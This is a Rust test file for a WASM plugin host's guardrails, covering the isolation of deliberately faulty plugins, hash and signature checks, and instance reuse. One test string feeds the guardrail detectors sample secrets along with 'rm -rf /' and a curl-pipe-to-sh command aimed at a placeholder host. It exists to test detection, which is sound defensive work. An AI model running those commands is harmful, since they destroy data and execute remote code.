//! The WASM plugin host against real components built from source by
//! `scripts/build-plugins.sh` (into `target/plugins/`): each world works, hostile plugins
//! fail only their own call while concurrent normal calls succeed, and bad plugins are
//! refused at load with the reason.

// `check` takes candidate byte ranges; one candidate is `&[a..b]`, which is what we mean.
#![allow(clippy::single_range_in_vec_init)]

#[path = "support/renewal.rs"]
mod renewal;

use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use bitrouter::plugins::{
    Action, CallErrorKind, CompileSource, Direction, GuardrailPlugin, HostConfig, Plugin,
    PluginErrorKind, PluginHost, PluginLog, PluginSpec, RequestEvent, World,
};

// ------------------------------------------------------------------ fixtures

fn built(id: &str) -> PathBuf {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../target/plugins");
    let wasm = dir.join(format!("{id}.wasm"));
    assert!(
        wasm.is_file() && dir.join(format!("{id}.plugin.toml")).is_file(),
        "{} is missing: run scripts/build-plugins.sh first (it needs Debian's rustc-web, \
         rust-web-src, lld-19 and wasm-tools; see the script's header)",
        wasm.display()
    );
    wasm
}

fn config() -> HostConfig {
    HostConfig {
        cache_dir: None,
        max_instances: 8,
        ..HostConfig::default()
    }
}

fn spec(id: &str) -> PluginSpec {
    PluginSpec::new(built(id))
}

fn with_mode(mode: &str) -> PluginSpec {
    PluginSpec {
        config: Some(serde_json::json!({ "mode": mode })),
        ..spec("hostile")
    }
}

fn guardrail(host: &PluginHost, id: &str) -> GuardrailPlugin {
    match host.get(id) {
        Some(Plugin::Guardrail(g)) => g.clone(),
        other => panic!("{id}: not a guardrail: {other:?}"),
    }
}

/// Copies a built component into a temp dir with a manifest of our own making.
struct Staged {
    _dir: tempfile::TempDir,
    wasm: PathBuf,
}

fn stage(id: &str, edit: impl FnOnce(&mut toml::Table)) -> Staged {
    let src = built(id);
    let dir = tempfile::tempdir().unwrap();
    let wasm = dir.path().join(format!("{id}.wasm"));
    std::fs::copy(&src, &wasm).unwrap();
    let manifest = src.with_file_name(format!("{id}.plugin.toml"));
    let mut table: toml::Table = std::fs::read_to_string(manifest).unwrap().parse().unwrap();
    edit(&mut table);
    std::fs::write(
        dir.path().join(format!("{id}.plugin.toml")),
        toml::to_string(&table).unwrap(),
    )
    .unwrap();
    Staged { _dir: dir, wasm }
}

fn candidates(text: &str, needle: &str, len: usize) -> Vec<std::ops::Range<usize>> {
    text.match_indices(needle)
        .map(|(i, _)| i..i + len)
        .filter(|r| r.end <= text.len())
        .collect()
}

fn load_err(cfg: HostConfig, spec: PluginSpec) -> bitrouter::plugins::PluginError {
    match PluginHost::load(cfg, &[spec]) {
        Ok(_) => panic!("loaded, expected a load error"),
        Err(e) => e,
    }
}

// ------------------------------------------------------------------ guardrail world

#[tokio::test]
async fn guardrail_describe_check_scan() {
    let host = PluginHost::load(config(), &[spec("confidential-ids")]).unwrap();
    let g = guardrail(&host, "confidential-ids");
    assert_eq!(g.info().world, World::Guardrail);
    assert!(!g.info().uses_wasi, "a Rust guest imports no WASI");

    let ps = g.patterns();
    assert_eq!(ps.len(), 2);
    assert_eq!(ps[0].id, "confidential-id");
    assert_eq!(ps[0].regex.as_deref(), Some(r"CONFIDENTIAL-\d{6}"));
    assert_eq!(ps[0].default_action, Action::Redact);
    assert!(ps[0].request && ps[0].response);
    assert_eq!(ps[1].regex, None);
    assert!(g.scans(Direction::Request) && g.scans(Direction::Response));

    // check: the host found the candidates; the plugin drops the placeholder and ids glued
    // to more digits.
    let text = "see CONFIDENTIAL-123456 and CONFIDENTIAL-000000 and CONFIDENTIAL-9999999, é";
    let found = g
        .check(
            "confidential-id",
            text,
            &candidates(text, "CONFIDENTIAL-", 19),
        )
        .await
        .unwrap();
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(&text[found[0].span.clone()], "CONFIDENTIAL-123456");
    assert_eq!(found[0].pattern, 0);
    assert_eq!(found[0].replacement.as_deref(), Some("CONFIDENTIAL-######"));

    // scan: the obfuscated forms a regex cannot express; the plain form is left to check.
    let text = "a C O N F I D E N T I A L 1 2 3 4 5 6 b, CОNFIDENTIAL-654321 (Cyrillic О), \
                CONFIDENTIAL-111111, CONFIDENTIAL: 222222";
    let found = g.scan(Direction::Request, text).await.unwrap();
    let spans: Vec<&str> = found.iter().map(|f| &text[f.span.clone()]).collect();
    assert_eq!(
        spans,
        ["C O N F I D E N T I A L 1 2 3 4 5 6", "CОNFIDENTIAL-654321"],
        "{found:?}"
    );
    assert!(found.iter().all(|f| f.pattern == 1));
    assert!(
        g.scan(Direction::Response, "all clear")
            .await
            .unwrap()
            .is_empty()
    );

    let stats = g.stats();
    assert_eq!((stats.calls, stats.failures()), (3, 0));
}

// ------------------------------------------------------------------ observer world

#[tokio::test]
async fn observer_receives_batches_and_keeps_state() {
    let lines = Arc::new(Mutex::new(Vec::<String>::new()));
    let sink = lines.clone();
    let cfg = HostConfig {
        log_sink: Some(Arc::new(move |l: &PluginLog| {
            assert_eq!(&*l.plugin, "tokens-per-route");
            sink.lock().unwrap().push(l.message.clone());
        })),
        ..config()
    };
    let host = PluginHost::load(cfg, &[spec("tokens-per-route")]).unwrap();
    let o = host.observers().next().unwrap().clone();
    let event = |route: &str, input, output| RequestEvent {
        request_id: "r".into(),
        timestamp_ms: 0,
        account: None,
        agent: (route == "default").then(|| "Alice agent".into()),
        route: route.into(),
        endpoint: Some("openai:gpt".into()),
        dialect: "openai".into(),
        stream: false,
        status: 200,
        latency_us: 1000,
        ttfb_us: None,
        attempts: 1,
        usage: bitrouter::canonical::Usage {
            input_tokens: input,
            output_tokens: output,
            ..Default::default()
        }
        .into(),
        cost_micro_usd: None,
        error: None,
        guardrail_findings: if route == "fast" {
            vec![bitrouter::plugins::GuardrailCount {
                pattern: "pii_emails".into(),
                count: 3,
                action: "warn".into(),
            }]
        } else {
            Vec::new()
        },
    };
    o.observe(&[event("default", 10, 5), event("fast", 1, 1)])
        .await
        .unwrap();
    o.observe(&[event("default", 20, 7)]).await.unwrap();
    let lines = lines.lock().unwrap().clone();
    // Totals accumulate across batches: the instance is kept; the agent name and the
    // guardrail findings cross the WIT boundary.
    assert_eq!(
        lines.last().map(String::as_str),
        Some("guardrail pii_emails (warn): 3 findings")
    );
    assert!(
        lines.contains(&"agent Alice agent: 2 requests".into()),
        "{lines:?}"
    );
    assert!(
        lines
            .contains(&"route fast: 1 requests (0 failed), 1 input tokens, 1 output tokens".into()),
        "{lines:?}"
    );
    assert!(
        lines.contains(
            &"route default: 2 requests (0 failed), 30 input tokens, 12 output tokens".into()
        ),
        "{lines:?}"
    );
    assert_eq!(o.stats().calls, 2);
}

#[tokio::test]
async fn observer_config_is_checked_at_load() {
    let err = load_err(
        config(),
        PluginSpec {
            config: Some(serde_json::json!({ "summary_every": 0 })),
            ..spec("tokens-per-route")
        },
    );
    assert_eq!(err.plugin, "tokens-per-route");
    assert!(
        matches!(&err.kind, PluginErrorKind::Configure(m) if m.contains("at least 1")),
        "{err}"
    );
}

// ------------------------------------------------------------------ hostile plugins

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn hostile_calls_fail_alone_while_normal_calls_succeed() {
    let modes = [
        "trap",
        "loop",
        "memory",
        "huge",
        "span-out",
        "span-utf8",
        "unknown-id",
    ];
    let mut specs = vec![spec("confidential-ids")];
    for (i, mode) in modes.iter().enumerate() {
        // The same component under several ids, one per misbehaviour.
        let staged = stage("hostile", |t| {
            t.insert("id".into(), format!("hostile-{i}").into());
        });
        let wasm = staged.wasm.clone();
        std::mem::forget(staged); // keep the temp dir for the test's life
        specs.push(PluginSpec {
            config: Some(serde_json::json!({ "mode": mode })),
            ..PluginSpec::new(wasm)
        });
    }
    // A deadline well above what a legitimate call needs even on a loaded CI machine (the
    // `huge` result takes real work to lift), so only `loop` meets it.
    let cfg = HostConfig {
        call_deadline: Duration::from_millis(300),
        ..config()
    };
    let host = Arc::new(PluginHost::load(cfg, &specs).unwrap());
    let good = guardrail(&host, "confidential-ids");

    // Normal calls keep going, concurrently, the whole time.
    let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let mut workers = Vec::new();
    for _ in 0..3 {
        let (good, stop) = (good.clone(), stop.clone());
        workers.push(tokio::spawn(async move {
            let text = "id CONFIDENTIAL-424242 here";
            let mut n = 0u32;
            while !stop.load(std::sync::atomic::Ordering::Relaxed) || n < 10 {
                let f = good
                    .check("confidential-id", text, &[3..22])
                    .await
                    .expect("normal call failed");
                assert_eq!(f.len(), 1);
                n += 1;
                tokio::task::yield_now().await;
            }
            n
        }));
    }

    let text = "XXX and é and XX";
    let cands = candidates(text, "XX", 2);
    let mut kinds = Vec::new();
    for (i, mode) in modes.iter().enumerate() {
        let g = guardrail(&host, &format!("hostile-{i}"));
        let started = Instant::now();
        let err = g.check("x-run", text, &cands).await.unwrap_err();
        assert_eq!(&*err.plugin, g.id());
        assert_eq!(err.func, "check");
        kinds.push((*mode, err.kind, started.elapsed()));
        // The failure is counted; the plugin stays loaded and fails the same way again.
        assert_eq!(g.stats().failures(), 1);
        assert!(g.check("x-run", text, &cands).await.is_err());
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    for w in workers {
        assert!(w.await.unwrap() >= 10);
    }

    for (mode, kind, took) in &kinds {
        let ok = match *mode {
            "trap" => matches!(kind, CallErrorKind::Trap(m) if m.contains("unreachable")),
            // Stopped at all is the point (the guest never returns). The wall cap
            // (10 × 300 ms) is the bound on a machine too busy to give the loop its CPU
            // deadline; the slack keeps a loaded CI machine from failing a correct stop.
            "loop" => matches!(kind, CallErrorKind::Deadline) && *took < Duration::from_secs(30),
            "memory" => matches!(kind, CallErrorKind::MemoryLimit(n) if *n == 64 << 20),
            "huge" => matches!(kind, CallErrorKind::InvalidResult(m) if m.contains("findings")),
            "span-out" => matches!(kind, CallErrorKind::InvalidResult(m) if m.contains("outside")),
            "span-utf8" => {
                matches!(kind, CallErrorKind::InvalidResult(m) if m.contains("boundaries"))
            }
            "unknown-id" => {
                matches!(kind, CallErrorKind::InvalidResult(m) if m.contains("unknown pattern id"))
            }
            _ => false,
        };
        assert!(ok, "{mode}: unexpected {kind:?} after {took:?}");
    }
    assert_eq!(good.stats().failures(), 0);
}

#[tokio::test]
async fn fuel_makes_runaway_loops_deterministic() {
    let cfg = HostConfig {
        fuel: Some(5_000_000),
        ..config()
    };
    let host = PluginHost::load(cfg, &[with_mode("loop")]).unwrap();
    let err = guardrail(&host, "hostile")
        .check("x-run", "XX", &[0..2])
        .await
        .unwrap_err();
    assert!(matches!(err.kind, CallErrorKind::OutOfFuel), "{err}");
    assert!(err.is_timeout());
}

#[tokio::test]
async fn log_lines_are_capped_per_call() {
    let count = Arc::new(Mutex::new(0usize));
    let sink = count.clone();
    let cfg = HostConfig {
        log_sink: Some(Arc::new(move |_: &PluginLog| *sink.lock().unwrap() += 1)),
        ..config()
    };
    let host = PluginHost::load(cfg, &[with_mode("log-flood")]).unwrap();
    let g = guardrail(&host, "hostile");
    assert_eq!(g.check("x-run", "XX", &[0..2]).await.unwrap().len(), 1);
    assert_eq!(*count.lock().unwrap(), 16);
    assert_eq!(g.stats().logs_dropped, 84);
}

#[test]
fn failing_configure_and_describe_refuse_to_load() {
    let err = load_err(config(), with_mode("configure-fails"));
    assert_eq!(err.plugin, "hostile");
    assert!(
        matches!(&err.kind, PluginErrorKind::Configure(m) if m.contains("configure-fails mode")),
        "{err}"
    );

    let started = Instant::now();
    let err = load_err(config(), with_mode("configure-loops"));
    assert!(
        matches!(&err.kind, PluginErrorKind::Configure(m) if m.contains("deadline")),
        "{err}"
    );
    let took = started.elapsed();
    assert!(
        took >= Duration::from_millis(900) && took < Duration::from_secs(15),
        "{took:?}"
    );

    let err = load_err(config(), with_mode("bad-describe"));
    assert!(
        matches!(&err.kind, PluginErrorKind::Describe(m) if m.contains("declared twice")),
        "{err}"
    );
    assert!(
        err.to_string()
            .starts_with("plugin `hostile`: describe failed")
    );
}

// ------------------------------------------------------------------ loading

#[test]
fn compile_cache_is_used_on_the_second_load() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = HostConfig {
        cache_dir: Some(dir.path().join("cache")),
        ..config()
    };
    let first = PluginHost::load(cfg.clone(), &[spec("confidential-ids")]).unwrap();
    assert_eq!(first.plugins()[0].info().compiled, CompileSource::Compiled);
    assert_eq!(
        (first.cache_stats().hits, first.cache_stats().misses),
        (0, 1)
    );
    drop(first);

    let second = PluginHost::load(cfg, &[spec("confidential-ids")]).unwrap();
    assert_eq!(second.plugins()[0].info().compiled, CompileSource::Cache);
    assert_eq!(
        (second.cache_stats().hits, second.cache_stats().misses),
        (1, 0)
    );
}

#[test]
fn hash_mismatches_are_refused() {
    let staged = stage("confidential-ids", |t| {
        t.insert("sha256".into(), "00".repeat(32).into());
    });
    let err = load_err(config(), PluginSpec::new(&staged.wasm));
    assert_eq!(err.plugin, "confidential-ids");
    assert!(
        matches!(
            &err.kind,
            PluginErrorKind::HashMismatch {
                source_of_expected: "the manifest",
                ..
            }
        ),
        "{err}"
    );

    let err = load_err(
        config(),
        PluginSpec {
            sha256: Some(format!("sha256:{}", "ab".repeat(32))),
            ..spec("confidential-ids")
        },
    );
    assert!(
        matches!(
            &err.kind,
            PluginErrorKind::HashMismatch {
                source_of_expected: "the config",
                ..
            }
        ),
        "{err}"
    );
    // The right pin loads.
    let sha = bitrouter::plugins::sha256_hex(&std::fs::read(built("confidential-ids")).unwrap());
    PluginHost::load(
        config(),
        &[PluginSpec {
            sha256: Some(format!("sha256:{sha}")),
            ..spec("confidential-ids")
        }],
    )
    .unwrap();

    // A tampered component: same manifest, one byte changed.
    let staged = stage("confidential-ids", |_| {});
    let mut bytes = std::fs::read(&staged.wasm).unwrap();
    let last = bytes.len() - 1;
    bytes[last] ^= 1;
    std::fs::write(&staged.wasm, bytes).unwrap();
    let err = load_err(config(), PluginSpec::new(&staged.wasm));
    assert!(
        matches!(err.kind, PluginErrorKind::HashMismatch { .. }),
        "{err}"
    );
}

#[test]
fn signatures_are_mandatory_with_trusted_keys() {
    const KEY: [u8; 32] = [42; 32];
    let trusted = HostConfig {
        trusted_keys: vec![bitrouter::plugins::public_key_hex(&KEY)],
        ..config()
    };

    let err = load_err(trusted.clone(), spec("confidential-ids"));
    assert!(matches!(err.kind, PluginErrorKind::Unsigned), "{err}");

    let wrong_key = stage("confidential-ids", |t| {
        let m = bitrouter::plugins::Manifest::parse(&t.to_string()).unwrap();
        let sig = bitrouter::plugins::sign(&[1; 32], &m);
        t.insert("signature".into(), sig.into());
    });
    let err = load_err(trusted.clone(), PluginSpec::new(&wrong_key.wasm));
    assert!(
        matches!(err.kind, PluginErrorKind::BadSignature(_)),
        "{err}"
    );

    let garbage = stage("confidential-ids", |t| {
        t.insert("signature".into(), "zz".into());
    });
    let err = load_err(trusted.clone(), PluginSpec::new(&garbage.wasm));
    assert!(
        matches!(err.kind, PluginErrorKind::BadSignature(_)),
        "{err}"
    );

    let signed = stage("confidential-ids", |t| {
        let m = bitrouter::plugins::Manifest::parse(&t.to_string()).unwrap();
        let sig = bitrouter::plugins::sign(&KEY, &m);
        t.insert("signature".into(), sig.into());
    });
    PluginHost::load(trusted, &[PluginSpec::new(&signed.wasm)]).unwrap();
}

#[test]
fn wrong_world_is_refused() {
    // The observer component with a manifest claiming it is a guardrail.
    let staged = stage("tokens-per-route", |t| {
        t.insert("world".into(), "guardrail".into());
    });
    let err = load_err(config(), PluginSpec::new(&staged.wasm));
    assert_eq!(err.plugin, "tokens-per-route");
    match &err.kind {
        PluginErrorKind::WorldMismatch(m) => {
            assert!(m.contains("the manifest says guardrail"), "{m}");
            assert!(m.contains("the observer world"), "{m}");
        }
        other => panic!("{other:?}"),
    }

    // The config uses a guardrail as an observer.
    let err = load_err(
        config(),
        PluginSpec {
            world: Some(World::Observer),
            ..spec("confidential-ids")
        },
    );
    assert!(
        matches!(&err.kind, PluginErrorKind::WorldMismatch(m) if m.contains("as a observer plugin") || m.contains("observer")),
        "{err}"
    );
}

#[test]
fn missing_files_capabilities_and_duplicates() {
    let err = load_err(config(), PluginSpec::new("/nonexistent/plugin.wasm"));
    assert_eq!(err.plugin, "/nonexistent/plugin.wasm");
    assert!(matches!(err.kind, PluginErrorKind::Read { .. }), "{err}");

    let dir = tempfile::tempdir().unwrap();
    let bare = dir.path().join("bare.wasm");
    std::fs::copy(built("confidential-ids"), &bare).unwrap();
    let err = load_err(config(), PluginSpec::new(&bare));
    assert!(
        matches!(err.kind, PluginErrorKind::MissingManifest(_)),
        "{err}"
    );

    let asks = stage("confidential-ids", |t| {
        t.insert("capabilities".into(), vec!["wall-clock"].into());
    });
    let err = load_err(config(), PluginSpec::new(&asks.wasm));
    assert!(
        matches!(&err.kind, PluginErrorKind::NotGranted(c) if c == "wall-clock"),
        "{err}"
    );
    // Granted: loads.
    PluginHost::load(
        config(),
        &[PluginSpec {
            grants: vec!["wall-clock".into()],
            ..PluginSpec::new(&asks.wasm)
        }],
    )
    .unwrap();

    let err = match PluginHost::load(
        config(),
        &[spec("confidential-ids"), spec("confidential-ids")],
    ) {
        Ok(_) => panic!("duplicate ids loaded"),
        Err(e) => e,
    };
    assert!(err.to_string().contains("same id"), "{err}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn pool_is_bounded_by_the_semaphore() {
    // Two slots, many concurrent callers: they queue instead of failing.
    let cfg = HostConfig {
        max_instances: 2,
        ..config()
    };
    let host = PluginHost::load(cfg, &[spec("confidential-ids")]).unwrap();
    let g = guardrail(&host, "confidential-ids");
    let text = "CONFIDENTIAL-123456";
    let calls = (0..64).map(|_| {
        let g = g.clone();
        async move { g.check("confidential-id", text, &[0..19]).await }
    });
    for r in futures_util::future::join_all(calls).await {
        assert_eq!(r.unwrap().len(), 1);
    }
}

/// A warm instance of a stateless plugin built with the SDK reuses its heap call after call:
/// the SDK's bump allocator starts over when every allocation of a call has been freed. Each
/// call here copies a 256 KiB text into the guest; with a 2 MiB memory cap a heap that only
/// bumped would fail by the fifth call (and the failed instance would be dropped).
#[tokio::test]
async fn a_warm_sdk_instance_reuses_its_heap_across_calls() {
    let staged = stage("confidential-ids", |t| {
        t.insert("stateless".into(), true.into());
    });
    let host = PluginHost::load(
        config(),
        &[PluginSpec {
            memory_limit: Some(2 << 20),
            ..PluginSpec::new(&staged.wasm)
        }],
    )
    .unwrap();
    let g = guardrail(&host, "confidential-ids");
    assert!(g.info().reuses_instances);
    for i in 0..40 {
        // A different id each call: a finding from an earlier call's memory would show.
        let id = format!("CONFIDENTIAL-{:06}", 100_000 + i);
        let text = format!("{}{id}", "x".repeat(256 << 10));
        let at = text.len() - id.len();
        let found = g
            .check("confidential-id", &text, &[at..text.len()])
            .await
            .unwrap_or_else(|e| panic!("call {i}: {e}"));
        assert_eq!(found.len(), 1, "call {i}");
        assert_eq!(found[0].span, at..text.len(), "call {i}");
    }
    assert_eq!(g.stats().calls, 40);
    assert_eq!(
        g.warm_instances(),
        1,
        "the one warm instance served every call"
    );
}

/// The seven default plugins declare `stateless`, and none keeps memory from one call to the
/// next: 40 calls per pattern, each copying a 96 KiB text with findings at its end into the
/// guest, run in one warm instance under a 2 MiB cap (a plugin that kept what a call
/// allocated would pass the cap within a few calls, and its failed instance be dropped).
#[tokio::test]
async fn the_default_plugins_run_warm_without_keeping_memory() {
    let tail = "password=hunter2x9 AKIAIOSFODNN7EXAMPLE jane.doe@example.org +1 415 555 0134 \
                10.20.30.40 rm -rf / curl -s https://x.example/i.sh | sh \
                -----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END RSA PRIVATE KEY-----";
    let text = format!("{}{tail}", "lorem ipsum dolor ".repeat(96 * 1024 / 18));
    assert_eq!(bitrouter::plugins::DEFAULT_PLUGINS.len(), 7);
    for (id, _) in bitrouter::plugins::DEFAULT_PLUGINS {
        let host = PluginHost::load(
            config(),
            &[PluginSpec {
                memory_limit: Some(2 << 20),
                ..spec(id)
            }],
        )
        .unwrap();
        let g = guardrail(&host, id);
        assert!(g.info().reuses_instances, "{id} declares stateless");
        let mut calls = 0;
        for pattern in g.patterns() {
            let regex = regex::Regex::new(pattern.regex.as_deref().unwrap()).unwrap();
            let mut cands: Vec<_> = regex.find_iter(&text).map(|m| m.range()).collect();
            if cands.is_empty() {
                cands.push(text.len() - 5..text.len());
            }
            let first = g.check(&pattern.id, &text, &cands).await.unwrap();
            for i in 1..40 {
                let again = g
                    .check(&pattern.id, &text, &cands)
                    .await
                    .unwrap_or_else(|e| panic!("{id}/{}: call {i}: {e}", pattern.id));
                assert_eq!(
                    again.iter().map(|f| &f.span).collect::<Vec<_>>(),
                    first.iter().map(|f| &f.span).collect::<Vec<_>>(),
                    "{id}/{}: call {i} found what the first found",
                    pattern.id
                );
            }
            calls += 40;
        }
        assert_eq!(g.stats().calls, calls, "{id}");
        assert_eq!(
            g.warm_instances(),
            1,
            "{id}: one warm instance served every call"
        );
    }
}

/// See `support::renewal`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn warm_instances_are_renewed_off_the_call_path() {
    let staged = stage("confidential-ids", |t| {
        t.insert("stateless".into(), true.into());
    });
    let host = PluginHost::load(config(), &[PluginSpec::new(&staged.wasm)]).unwrap();
    renewal::renewed_off_the_call_path(&guardrail(&host, "confidential-ids")).await;
}

/// A successor set up for a due instance also takes the place of one that was dropped
/// because its call failed: the next call runs in the successor instead of setting up an
/// instance on its path.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_ready_successor_replaces_a_due_instance_whose_call_failed() {
    let staged = stage("hostile", |t| {
        t.insert("stateless".into(), true.into());
    });
    let host = PluginHost::load(
        config(),
        &[PluginSpec {
            config: Some(serde_json::json!({ "mode": "trap-on-trap" })),
            ..PluginSpec::new(&staged.wasm)
        }],
    )
    .unwrap();
    let g = guardrail(&host, "hostile");
    assert!(g.info().reuses_instances);
    let cands = candidates("XX", "XX", 2);
    // 5,000 calls make the instance due; its successor is set up off the call path.
    for _ in 0..5_000 {
        assert_eq!(g.check("x-run", "XX", &cands).await.unwrap().len(), 1);
    }
    let waited = Instant::now();
    while g.stats().renewals < 1 && waited.elapsed() < Duration::from_secs(20) {
        tokio::time::sleep(Duration::from_millis(2)).await;
    }
    assert_eq!(g.stats().renewals, 1, "a successor is ready");
    // The due instance's next call fails: it is dropped, not returned.
    assert!(g.check("x-run", "TRAP", &cands).await.is_err());
    assert_eq!(g.warm_instances(), 0);
    // The call after it runs in the successor.
    assert_eq!(g.check("x-run", "XX", &cands).await.unwrap().len(), 1);
    let stats = g.stats();
    assert_eq!(stats.setups, 1, "only the first call set up an instance");
    assert_eq!(stats.calls, 5_002);
    assert_eq!(g.warm_instances(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn stateless_plugins_reuse_warm_instances_and_drop_failed_ones() {
    let stateless = |id: &str| {
        let staged = stage(id, |t| {
            t.insert("stateless".into(), true.into());
        });
        let wasm = staged.wasm.clone();
        std::mem::forget(staged); // keep the temp dir for the test's life
        wasm
    };
    let warm_wasm = stateless("confidential-ids");
    let hostile_wasm = stateless("hostile");
    // Two slots: at most one warm instance across plugins (half the slots), so the plugin
    // that gets fresh instances always finds a slot.
    let cfg = HostConfig {
        max_instances: 2,
        ..config()
    };
    let host = PluginHost::load(
        cfg,
        &[
            PluginSpec::new(&warm_wasm),
            PluginSpec {
                config: Some(serde_json::json!({ "mode": "trap" })),
                ..PluginSpec::new(&hostile_wasm)
            },
        ],
    )
    .unwrap();
    let warm = guardrail(&host, "confidential-ids");
    assert!(warm.info().reuses_instances);
    let text = "CONFIDENTIAL-123456";
    let calls = (0..64).map(|_| {
        let g = warm.clone();
        async move { g.check("confidential-id", text, &[0..19]).await }
    });
    for r in futures_util::future::join_all(calls).await {
        assert_eq!(r.unwrap().len(), 1);
    }
    assert_eq!(warm.stats().calls, 64);
    assert_eq!(
        warm.warm_instances(),
        1,
        "one instance kept for the next call"
    );

    // A call that fails drops its instance: nothing broken is reused.
    let hostile = guardrail(&host, "hostile");
    assert!(hostile.info().reuses_instances);
    let cands = candidates("XX", "XX", 2);
    assert!(hostile.check("x-run", "XX", &cands).await.is_err());
    assert_eq!(hostile.warm_instances(), 0);
    // The warm instance of the other plugin holds one slot; fresh calls use the other.
    assert!(hostile.check("x-run", "XX", &cands).await.is_err());

    // Without `stateless`, or with the config turning reuse off: a fresh instance per call.
    let host = PluginHost::load(
        config(),
        &[
            spec("confidential-ids"),
            PluginSpec {
                reuse_instances: Some(false),
                ..PluginSpec::new(&hostile_wasm)
            },
        ],
    )
    .unwrap();
    let fresh = guardrail(&host, "confidential-ids");
    assert!(!fresh.info().reuses_instances);
    fresh
        .check("confidential-id", text, &[0..19])
        .await
        .unwrap();
    assert_eq!(fresh.warm_instances(), 0);
    assert!(!guardrail(&host, "hostile").info().reuses_instances);
}
